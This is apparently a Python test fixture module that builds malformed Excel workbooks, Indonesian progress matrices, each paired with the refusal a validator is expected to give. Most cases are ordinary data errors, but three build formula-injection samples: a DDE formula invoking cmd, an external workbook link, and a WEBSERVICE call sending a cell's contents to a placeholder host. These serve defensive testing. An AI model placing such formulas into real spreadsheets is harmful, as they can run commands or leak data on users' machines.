"""Bad files, second part: sound workbooks whose content must not be taken as it stands."""

from __future__ import annotations

import io
from typing import Any

import xlsxwriter

from tests.reports.matrix.corpus.bad_files import SHEET, sound
from tests.reports.matrix.corpus.making import Book, Builder, Example, Sheet, edited, refused

HEADER = ("No", "Komitmen", "Rencana Aksi", "Penanggung Jawab", "Target", "Capaian (%)", "Status", "Tenggat")
TITLE = "Keterbukaan data uji"


def _matrix(*rows: tuple[Any, ...], header: tuple[str, ...] = HEADER) -> tuple[Book, Sheet]:
    book = Book()
    sheet = book.sheet("Matriks")
    sheet.row(1, *header)
    sheet.header(1)
    sheet.rows(2, *rows)
    return book, sheet


def _row(number: int, **changed: Any) -> tuple[Any, ...]:
    """A row that is right in every column but those that are changed."""
    cells = dict(
        zip(
            HEADER,
            (number, TITLE, f"Kegiatan {number}", "BPS", f"{number} dataset", 50, "Sedang berjalan", "30 Juni 2024"),
            strict=True,
        )
    )
    cells |= {name.replace("_", " "): value for name, value in changed.items() if name not in ("percent",)}
    if "percent" in changed:
        cells["Capaian (%)"] = changed["percent"]
    return tuple(cells[name] for name in HEADER)


def _with_formula(formula: str, value: Any, *, column: int = 4) -> bytes:
    """A matrix whose cell in row 2 is a real formula with the given result."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as workbook:
        sheet = workbook.add_worksheet("Matriks")
        sheet.write_row(0, 0, HEADER)
        for row, number in ((1, 1), (2, 2)):
            sheet.write_row(row, 0, _row(number))
        sheet.write_formula(1, column, formula, None, value)
    return stream.getvalue()


def no_cells() -> Example:
    file = "salah_31_tanpa_isi.xlsx"
    book = Book()
    book.sheet("Sheet1")
    book.sheet("Sheet2").put(3, 2, "   ")
    return file, book.data(), refused(file, "No sheet holds anything", "empty_workbook")


def attendance_list() -> Example:
    file = "salah_32_daftar_hadir.xlsx"
    book = Book()
    sheet = book.sheet("Daftar Hadir")
    sheet.put(1, 1, "DAFTAR HADIR RAPAT")
    sheet.rows(
        3,
        ("No", "Nama", "Instansi", "Jabatan", "No. HP", "Tanda Tangan"),
        (1, "Peserta Satu", "BPS", "Staf", "0800-1", None),
        (2, "Peserta Dua", "OMS A", "Staf", "0800-2", None),
    )
    return file, book.data(), refused(file, "An attendance list", "no_recognisable_header")


def budget_table() -> Example:
    file = "salah_33_rincian_anggaran.xlsx"
    book = Book()
    sheet = book.sheet("RAB")
    sheet.put(1, 1, "RINCIAN ANGGARAN BIAYA")
    sheet.rows(
        3,
        ("No", "Uraian Belanja", "Volume", "Satuan", "Harga Satuan", "Jumlah"),
        (1, "Konsumsi rapat", 40, "orang", 50_000, 2_000_000),
        (2, "Perjalanan dinas", 4, "orang", 2_500_000, 10_000_000),
        (None, "Jumlah", None, None, None, 12_000_000),
    )
    return file, book.data(), refused(file, "A budget table", "no_recognisable_header")


def header_only() -> Example:
    file = "salah_34_hanya_judul_kolom.xlsx"
    book, sheet = _matrix()
    sheet.boxes(2, 30, len(HEADER))
    return file, book.data(), refused(file, "A template that nobody filled in", "no_data_rows")


def header_numbers_and_total_only() -> Example:
    file = "salah_35_judul_nomor_dan_jumlah.xlsx"
    book, sheet = _matrix(tuple(f"({number})" for number in range(1, 9)))
    sheet.row(4, None, "Jumlah", None, None, None, 0)
    sheet.put(6, 7, "Nama Pejabat")
    return file, book.data(), refused(file, "Only a number row, a total and a signature", "no_data_rows")


def two_columns_one_field() -> Example:
    file = "salah_36_dua_kolom_satu_arti.xlsx"
    book, _ = _matrix(
        (1, TITLE, "Kegiatan 1", "BPS", "1 dataset", "Selesai", "Sedang berjalan"),
        (2, TITLE, "Kegiatan 2", "BPS", "2 dataset", "Belum mulai", "Selesai"),
        header=("No", "Komitmen", "Rencana Aksi", "PJ", "Target", "Status", "Status Pelaksanaan"),
    )
    return file, book.data(), refused(file, "Two status columns that disagree", "ambiguous_header")


def same_header_twice() -> Example:
    file = "salah_37_judul_kolom_kembar.xlsx"
    book, _ = _matrix(
        (1, TITLE, "Kegiatan 1", "BPS", "40%", "60%"),
        (2, TITLE, "Kegiatan 2", "BPS", "10%", "20%"),
        header=("No", "Komitmen", "Kegiatan", "PJ", "Capaian (%)", "% Capaian"),
    )
    return file, book.data(), refused(file, "Two percent columns without a period", "ambiguous_header")


def percent_out_of_range() -> Example:
    file = "salah_38_persen_di_luar_batas.xlsx"
    book, _ = _matrix(_row(1, percent=250), _row(2, percent="-10%"), _row(3), _row(4, percent="201%"))
    cells = ["Matriks!F2", "Matriks!F3", "Matriks!F5"]
    return (
        file,
        book.data(),
        refused(file, "250, -10% and 201%", "percent_out_of_range", error_cells=cells),
    )


def percent_in_words() -> Example:
    file = "salah_39_persen_dengan_kata.xlsx"
    book, _ = _matrix(_row(1), _row(2, percent="tujuh puluh lima"), _row(3, percent="lihat lampiran"))
    return (
        file,
        book.data(),
        refused(file, "Words in a percent column", "invalid_percent", error_cells=["Matriks!F3", "Matriks!F4"]),
    )


def percent_without_scale() -> Example:
    file = "salah_40_persen_tanpa_tanda.xlsx"
    header = ("No", "Komitmen", "Rencana Aksi", "Penanggung Jawab", "Target", "Progres")
    book, _ = _matrix(
        (1, TITLE, "Kegiatan 1", "BPS", "1 dataset", 0.75),
        (2, TITLE, "Kegiatan 2", "BPS", "2 dataset", 0.5),
        header=header,
    )
    return (
        file,
        book.data(),
        refused(
            file,
            "0.75 in a column without a per cent sign: 75% or 0.75%?",
            "ambiguous_percent",
            error_cells=["Matriks!F2", "Matriks!F3"],
        ),
    )


def no_such_day() -> Example:
    file = "salah_41_tanggal_tidak_ada.xlsx"
    book, _ = _matrix(_row(1, Tenggat="31 Februari 2024"), _row(2), _row(3, Tenggat="32/12/2024"))
    return (
        file,
        book.data(),
        refused(file, "31 February", "invalid_date", error_cells=["Matriks!H2", "Matriks!H4"]),
    )


def unknown_status() -> Example:
    file = "salah_42_status_tidak_dikenal.xlsx"
    book, _ = _matrix(_row(1, Status="beres gan"), _row(2), _row(3, Status="aman terkendali"))
    return (
        file,
        book.data(),
        refused(file, "Invented status words", "unknown_status", error_cells=["Matriks!G2", "Matriks!G4"]),
    )


def invalid_year() -> Example:
    file = "salah_43_tahun_salah_ketik.xlsx"
    book, _ = _matrix(
        (1, TITLE, "Kegiatan 1", "BPS", 20222, "1 dataset"),
        (2, TITLE, "Kegiatan 2", "BPS", 2023, "2 dataset"),
        header=("No", "Komitmen", "Rencana Aksi", "Penanggung Jawab", "Tahun", "Target"),
    )
    return file, book.data(), refused(file, "The year 20222", "invalid_year", error_cells=["Matriks!E2"])


def error_value() -> Example:
    file = "salah_44_galat_ref.xlsx"
    return (
        file,
        _with_formula("=#REF!", "#REF!"),
        refused(file, "#REF! in the target", "error_value_in_cell", error_cells=["Matriks!E2"]),
    )


def division_by_zero() -> Example:
    file = "salah_45_bagi_nol.xlsx"
    return (
        file,
        _with_formula("=0/0", "#DIV/0!", column=5),
        refused(file, "#DIV/0! in the percentage", "error_value_in_cell", error_cells=["Matriks!F2"]),
    )


def formula_without_result() -> Example:
    file = "salah_46_rumus_tanpa_hasil.xlsx"
    return (
        file,
        edited(_with_formula("=40+10", 987_654, column=5), SHEET, ("<v>987654</v>", "")),
        refused(file, "A formula nobody calculated", "formula_without_value", error_cells=["Matriks!F2"]),
    )


def dynamic_data_exchange() -> Example:
    file = "salah_47_dde.xlsx"
    return (
        file,
        _with_formula("=cmd|' /C calc'!A0", "0"),
        refused(file, "A DDE call", "formula_injection", error_cells=["Matriks!E2"]),
    )


def external_link() -> Example:
    file = "salah_48_tautan_luar.xlsx"
    return (
        file,
        _with_formula("='[1]Rekap 2023'!$B$4", "10 dataset"),
        refused(file, "A link into another workbook", "formula_injection", error_cells=["Matriks!E2"]),
    )


def web_function() -> Example:
    file = "salah_49_fungsi_web.xlsx"
    return (
        file,
        _with_formula('=_xlfn.WEBSERVICE("http://contoh.example/?x="&B2)', "ok"),
        refused(file, "A formula that calls the web", "formula_injection", error_cells=["Matriks!E2"]),
    )


def duplicate_rows() -> Example:
    file = "salah_50_baris_kembar.xlsx"
    book, _ = _matrix(_row(1), _row(2), _row(1), _row(3))
    return file, book.data(), refused(file, "Rows 2 and 4 are the same", "duplicate_rows")


def conflicting_commitment() -> Example:
    file = "salah_51_nomor_sama_judul_beda.xlsx"
    book, _ = _matrix(
        (3, "Keterbukaan data pangan", "Peta rawan pangan", "BPS", "1 peta"),
        (3, "Bantuan hukum yang inklusif", "Paralegal desa", "BPHN", "10 desa"),
        (4, "Keterbukaan data cuaca", "Buletin", "BMKG", "12 buletin"),
        header=("No Komitmen", "Komitmen", "Rencana Aksi", "Penanggung Jawab", "Target"),
    )
    return file, book.data(), refused(file, "Commitment 3 under two titles", "conflicting_commitment")


def commitment_missing() -> Example:
    file = "salah_52_komitmen_tidak_disebut.xlsx"
    book, _ = _matrix(
        (None, None, "Kegiatan tanpa komitmen", "BPS", "1 dataset"),
        (2, TITLE, "Kegiatan 2", "BPS", "2 dataset"),
        header=("No Komitmen", "Komitmen", "Rencana Aksi", "Penanggung Jawab", "Target"),
    )
    return (
        file,
        book.data(),
        refused(file, "The first row belongs to no commitment", "missing_required_value"),
    )


def control_characters() -> Example:
    file = "salah_53_karakter_kendali.xlsx"
    data = edited(sound().data(), SHEET, ("10 dataset", "10_x0007_ data_x0001_set"))
    return (
        file,
        data,
        refused(file, "Control characters in a target", "control_characters", error_cells=["Matriks!E2"]),
    )


def control_bytes() -> Example:
    file = "salah_54_bita_kendali.xlsx"
    data = edited(sound().data(), SHEET, ("10 dataset", "10\x07 data\x01set"))
    return (
        file,
        data,
        refused(file, "Raw control bytes, which no XML may hold", "control_characters", or_topics=["corrupt_file"]),
    )


def cell_too_long() -> Example:
    file = "salah_55_sel_terlalu_panjang.xlsx"
    data = edited(sound().data(), SHEET, ("10 dataset", "panjang " * 5000))
    return (
        file,
        data,
        refused(file, "40,000 characters in a cell", "cell_too_long", error_cells=["Matriks!E2"]),
    )


def many_problems() -> Example:
    """All problems come at once."""
    file = "salah_56_banyak_masalah.xlsx"
    book, _ = _matrix(
        _row(1, percent=900),
        _row(2, Status="oke"),
        _row(3, Tenggat="30 Februari 2024"),
        _row(4, percent="separuh"),
        _row(5),
    )
    return (
        file,
        book.data(),
        refused(
            file,
            "Four kinds of problem in four rows, reported together",
            "percent_out_of_range",
            other_topics=["unknown_status", "invalid_date", "invalid_percent"],
            error_cells=["Matriks!F2", "Matriks!G3", "Matriks!H4", "Matriks!F5"],
        ),
    )


def second_sheet_only() -> Example:
    """The first sheet is in order; the second holds the problem, and the place names that sheet."""
    file = "salah_57_masalah_di_lembar_kedua.xlsx"
    book = Book()
    for name, percent in (("Semester 1", 50), ("Semester 2", 500)):
        sheet = book.sheet(name)
        sheet.put(1, 1, "Matriks capaian")
        sheet.row(3, *HEADER)
        sheet.row(4, *_row(1, percent=percent))
    return (
        file,
        book.data(),
        refused(file, "A problem on the second sheet", "percent_out_of_range", error_cells=["Semester 2!F4"]),
    )


BUILDERS: list[Builder] = [
    no_cells,
    attendance_list,
    budget_table,
    header_only,
    header_numbers_and_total_only,
    two_columns_one_field,
    same_header_twice,
    percent_out_of_range,
    percent_in_words,
    percent_without_scale,
    no_such_day,
    unknown_status,
    invalid_year,
    error_value,
    division_by_zero,
    formula_without_result,
    dynamic_data_exchange,
    external_link,
    web_function,
    duplicate_rows,
    conflicting_commitment,
    commitment_missing,
    control_characters,
    control_bytes,
    cell_too_long,
    many_problems,
    second_sheet_only,
]
